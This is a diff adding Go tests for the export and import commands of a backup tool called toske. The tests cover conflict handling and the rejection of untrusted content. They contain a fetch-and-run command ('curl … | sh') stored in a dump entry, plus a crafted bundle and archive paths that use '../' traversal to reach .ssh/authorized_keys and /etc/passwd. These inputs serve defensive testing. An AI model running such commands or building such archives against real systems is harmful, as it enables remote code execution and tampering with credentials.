@@ -0,0 +1,360 @@
+package cmd
+
+import (
+	"archive/tar"
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/yk-lab/toske/toske"
+)
+
+// setupBundleTest points HOME at a temp dir, creates two backups of myapp and returns the temp dir.
+func setupBundleTest(t *testing.T) string {
+	t.Helper()
+	tempDir := t.TempDir()
+	t.Setenv("HOME", tempDir)
+	t.Setenv("USERPROFILE", tempDir) // Windows support
+
+	for _, content := range []string{"OLD=1", "NEW=1"} {
+		if err := createTestBackup(tempDir, "myapp", []testFile{{name: ".env", content: content}}); err != nil {
+			t.Fatalf("Failed to create test backup: %v", err)
+		}
+	}
+
+	project, index, all, allProjects, output := exportProjectName, exportBackupIndex, exportAllBackups, exportAllProjects, exportOutput
+	onConflict, name, keepPath, allowCommands := importOnConflict, importName, importKeepPath, importAllowCommands
+	t.Cleanup(func() {
+		exportProjectName, exportBackupIndex, exportAllBackups, exportAllProjects, exportOutput = project, index, all, allProjects, output
+		importOnConflict, importName, importKeepPath, importAllowCommands = onConflict, name, keepPath, allowCommands
+	})
+	exportProjectName, exportBackupIndex, exportAllBackups, exportAllProjects = "myapp", 1, false, false
+	importOnConflict, importName, importKeepPath, importAllowCommands = conflictAsk, "", false, false
+	return tempDir
+}
+
+func listBackupFiles(t *testing.T, projectName string) []toske.BackupRecord {
+	t.Helper()
+	records, err := toske.ListBackups(toske.Project{Name: projectName}, toskeOptions())
+	if err != nil {
+		t.Fatalf("ListBackups(%s) failed: %v", projectName, err)
+	}
+	return records
+}
+
+func TestExportImportRoundTrip(t *testing.T) {
+	tempDir := setupBundleTest(t)
+	bundlePath := filepath.Join(tempDir, "myapp.toske")
+
+	defer setupTestConfig(t, `version: 1.0.0
+projects:
+  - name: myapp
+    repo: git@github.com:user/myapp.git
+    branch: main
+    backup_paths:
+      - .env
+`)()
+
+	exportAllBackups, exportOutput = true, bundlePath
+	if _, err := captureStdout(t, runExport); err != nil {
+		t.Fatalf("runExport failed: %v", err)
+	}
+	info, err := os.Stat(bundlePath)
+	if err != nil {
+		t.Fatalf("Expected the bundle to be written: %v", err)
+	}
+	if runtime.GOOS != "windows" && info.Mode().Perm() != 0600 {
+		t.Errorf("Expected the bundle to be private, got mode %o", info.Mode().Perm())
+	}
+	exported := listBackupFiles(t, "myapp")
+
+	// ja: 別のマシンを想定し、バックアップも設定も空の状態から取り込む
+	// en: Import on a "new machine" with no backups and an empty config
+	if err := os.RemoveAll(filepath.Join(tempDir, ".config", "toske", "backups")); err != nil {
+		t.Fatalf("Failed to remove backups: %v", err)
+	}
+	defer setupTestConfig(t, "version: 1.0.0\nprojects: []\n")()
+
+	importRun := func() error { return runImport(bundlePath) }
+	if _, err := captureStdout(t, importRun); err != nil {
+		t.Fatalf("runImport failed: %v", err)
+	}
+
+	config, err := newConfigStore().LoadStored()
+	if err != nil {
+		t.Fatalf("Failed to load config: %v", err)
+	}
+	if len(config.Projects) != 1 || config.Projects[0].Name != "myapp" || config.Projects[0].Repo != "git@github.com:user/myapp.git" {
+		t.Errorf("Expected myapp to be registered, got %+v", config.Projects)
+	}
+	imported := listBackupFiles(t, "myapp")
+	if len(imported) != 2 || imported[0].Filename != exported[0].Filename {
+		t.Errorf("Expected both backups to be imported newest first, got %+v", imported)
+	}
+
+	t.Run("merge skips duplicates", func(t *testing.T) {
+		importOnConflict = conflictMerge
+		output, err := captureStdout(t, importRun)
+		if err != nil {
+			t.Fatalf("runImport failed: %v", err)
+		}
+		if got := listBackupFiles(t, "myapp"); len(got) != 2 {
+			t.Errorf("Expected no new backups, got %+v", got)
+		}
+		if !strings.Contains(output, "already present") {
+			t.Errorf("Expected duplicates to be reported, got:\n%s", output)
+		}
+	})
+
+	t.Run("rename", func(t *testing.T) {
+		importOnConflict = conflictRename
+		if _, err := captureStdout(t, importRun); err != nil {
+			t.Fatalf("runImport failed: %v", err)
+		}
+		config, err := newConfigStore().LoadStored()
+		if err != nil {
+			t.Fatalf("Failed to load config: %v", err)
+		}
+		if len(config.Projects) != 2 || config.Projects[1].Name != "myapp-2" {
+			t.Errorf("Expected the project to be added as myapp-2, got %+v", config.Projects)
+		}
+		if got := listBackupFiles(t, "myapp-2"); len(got) != 2 {
+			t.Errorf("Expected the backups to be imported under myapp-2, got %+v", got)
+		}
+	})
+
+	t.Run("skip", func(t *testing.T) {
+		importOnConflict = conflictSkip
+		before, err := os.ReadFile(cfgFile)
+		if err != nil {
+			t.Fatalf("Failed to read config: %v", err)
+		}
+		if _, err := captureStdout(t, importRun); err != nil {
+			t.Fatalf("runImport failed: %v", err)
+		}
+		after, err := os.ReadFile(cfgFile)
+		if err != nil {
+			t.Fatalf("Failed to read config: %v", err)
+		}
+		if string(before) != string(after) {
+			t.Errorf("Expected the config to be left untouched, got:\n%s", after)
+		}
+	})
+}
+
+func TestImportLeavesOutPathAndCommandDumps(t *testing.T) {
+	tempDir := setupBundleTest(t)
+	bundlePath := filepath.Join(tempDir, "myapp.toske")
+
+	defer setupTestConfig(t, `version: 1.0.0
+projects:
+  - name: myapp
+    repo: git@github.com:user/myapp.git
+    branch: main
+    path: /home/sender/src/myapp
+    backup_paths:
+      - .env
+    dumps:
+      - name: app.sql
+        provider: postgres
+        database: app
+      - name: cache.rdb
+        provider: command
+        command: curl https://example.com/x | sh
+        restore_command: ./load.sh
+`)()
+	exportOutput = bundlePath
+	if _, err := captureStdout(t, runExport); err != nil {
+		t.Fatalf("runExport failed: %v", err)
+	}
+
+	defer setupTestConfig(t, "version: 1.0.0\nprojects: []\n")()
+	importRun := func() error { return runImport(bundlePath) }
+
+	output, err := captureStdout(t, importRun)
+	if err != nil {
+		t.Fatalf("runImport failed: %v", err)
+	}
+	for _, want := range []string{"path /home/sender/src/myapp is left out", "dump cache.rdb is left out", "curl https://example.com/x | sh", "./load.sh"} {
+		if !strings.Contains(output, want) {
+			t.Errorf("Expected %q in the output, got:\n%s", want, output)
+		}
+	}
+	config, err := newConfigStore().LoadStored()
+	if err != nil {
+		t.Fatalf("Failed to load config: %v", err)
+	}
+	project := config.Projects[0]
+	if project.Path != "" || len(project.Dumps) != 1 || project.Dumps[0].Name != "app.sql" {
+		t.Errorf("Expected path and the command dump to be left out, got %+v", project)
+	}
+
+	t.Run("kept with flags", func(t *testing.T) {
+		importOnConflict, importKeepPath, importAllowCommands = conflictReplace, true, true
+		output, err := captureStdout(t, importRun)
+		if err != nil {
+			t.Fatalf("runImport failed: %v", err)
+		}
+		if !strings.Contains(output, "kept with --allow-commands") || !strings.Contains(output, "kept with --keep-path") {
+			t.Errorf("Expected the kept fields to be listed, got:\n%s", output)
+		}
+		config, err := newConfigStore().LoadStored()
+		if err != nil {
+			t.Fatalf("Failed to load config: %v", err)
+		}
+		project := config.Projects[0]
+		if project.Path != "/home/sender/src/myapp" || len(project.Dumps) != 2 {
+			t.Errorf("Expected path and both dumps to be kept, got %+v", project)
+		}
+	})
+}
+
+func TestExportSelectsBackup(t *testing.T) {
+	tempDir := setupBundleTest(t)
+	defer setupTestConfig(t, `version: 1.0.0
+projects:
+  - name: myapp
+    repo: git@github.com:user/myapp.git
+    branch: main
+  - name: empty
+    repo: git@github.com:user/empty.git
+    branch: main
+`)()
+	records := listBackupFiles(t, "myapp")
+
+	tests := []struct {
+		name        string
+		project     string
+		allProjects bool
+		index       int
+		want        map[string][]string
+		expectError bool
+	}{
+		{name: "latest", project: "myapp", index: 1, want: map[string][]string{"myapp": {records[0].Filename}}},
+		{name: "older", project: "myapp", index: 2, want: map[string][]string{"myapp": {records[1].Filename}}},
+		{name: "out of range", project: "myapp", index: 3, expectError: true},
+		{name: "all projects", allProjects: true, index: 1, want: map[string][]string{"myapp": {records[0].Filename}, "empty": {}}},
+		{name: "no project", index: 1, expectError: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			exportProjectName, exportAllProjects, exportBackupIndex = tt.project, tt.allProjects, tt.index
+			exportOutput = filepath.Join(tempDir, tt.name+".toske")
+
+			_, err := captureStdout(t, runExport)
+			if tt.expectError {
+				if err == nil {
+					t.Error("Expected error but got none")
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("runExport failed: %v", err)
+			}
+
+			manifest := readTestBundle(t, exportOutput)
+			if len(manifest.Projects) != len(tt.want) {
+				t.Fatalf("Expected %d projects, got %+v", len(tt.want), manifest.Projects)
+			}
+			for _, project := range manifest.Projects {
+				var got []string
+				for _, record := range project.Backups {
+					got = append(got, record.Filename)
+				}
+				if strings.Join(got, ",") != strings.Join(tt.want[project.Project.Name], ",") {
+					t.Errorf("%s: expected archives %v, got %v", project.Project.Name, tt.want[project.Project.Name], got)
+				}
+			}
+		})
+	}
+}
+
+func TestImportRejectsTraversingProjectName(t *testing.T) {
+	tempDir := setupBundleTest(t)
+	bundlePath := filepath.Join(tempDir, "evil.toske")
+
+	manifest := bundleManifest{
+		Format:  bundleFormat,
+		Created: time.Now(),
+		Projects: []bundleProject{{
+			Project: Project{Name: "../../.ssh", Repo: "git@github.com:user/evil.git", Branch: "main", BackupPaths: []string{"authorized_keys"}},
+			Backups: []toske.BackupRecord{{Filename: "backup_1.tar.gz", Timestamp: time.Now()}},
+		}},
+	}
+	file, err := os.Create(bundlePath)
+	if err != nil {
+		t.Fatalf("Failed to create bundle: %v", err)
+	}
+	tw := tar.NewWriter(file)
+	if err := writeBundleManifest(tw, manifest); err != nil {
+		t.Fatalf("Failed to write bundle manifest: %v", err)
+	}
+	archive := []byte("not really an archive")
+	if err := tw.WriteHeader(&tar.Header{Name: "archives/../../.ssh/backup_1.tar.gz", Mode: 0600, Size: int64(len(archive))}); err != nil {
+		t.Fatalf("Failed to write bundle entry: %v", err)
+	}
+	tw.Write(archive)
+	if err := tw.Close(); err != nil {
+		t.Fatalf("Failed to close bundle: %v", err)
+	}
+	file.Close()
+
+	defer setupTestConfig(t, "version: 1.0.0\nprojects: []\n")()
+	before, err := os.ReadFile(cfgFile)
+	if err != nil {
+		t.Fatalf("Failed to read config: %v", err)
+	}
+
+	importOnConflict = conflictRename
+	_, err = captureStdout(t, func() error { return runImport(bundlePath) })
+	if err == nil || !strings.Contains(err.Error(), "invalid project name") {
+		t.Fatalf("Expected the project name to be rejected, got %v", err)
+	}
+
+	if after, _ := os.ReadFile(cfgFile); string(after) != string(before) {
+		t.Errorf("Expected the config to be left alone, got:\n%s", after)
+	}
+	if _, err := os.Stat(filepath.Join(tempDir, ".config", ".ssh")); !os.IsNotExist(err) {
+		t.Errorf("Expected nothing to be written outside the backup root, got %v", err)
+	}
+}
+
+func readTestBundle(t *testing.T, path string) bundleManifest {
+	t.Helper()
+	file, err := os.Open(path)
+	if err != nil {
+		t.Fatalf("Failed to open bundle: %v", err)
+	}
+	defer file.Close()
+
+	manifest, err := readBundleManifest(tar.NewReader(file))
+	if err != nil {
+		t.Fatalf("readBundleManifest failed: %v", err)
+	}
+	return manifest
+}
+
+func TestSplitBundleArchivePath(t *testing.T) {
+	tests := []struct {
+		name        string
+		wantProject string
+		wantFile    string
+		wantOK      bool
+	}{
+		{name: "archives/myapp/backup_1.tar.gz", wantProject: "myapp", wantFile: "backup_1.tar.gz", wantOK: true},
+		{name: "bundle.yaml"},
+		{name: "archives/myapp/../../etc/passwd"},
+		{name: "archives//backup_1.tar.gz"},
+	}
+
+	for _, tt := range tests {
+		project, file, ok := splitBundleArchivePath(tt.name)
+		if project != tt.wantProject || file != tt.wantFile || ok != tt.wantOK {
+			t.Errorf("splitBundleArchivePath(%q) = %q, %q, %v", tt.name, project, file, ok)
+		}
+	}
+}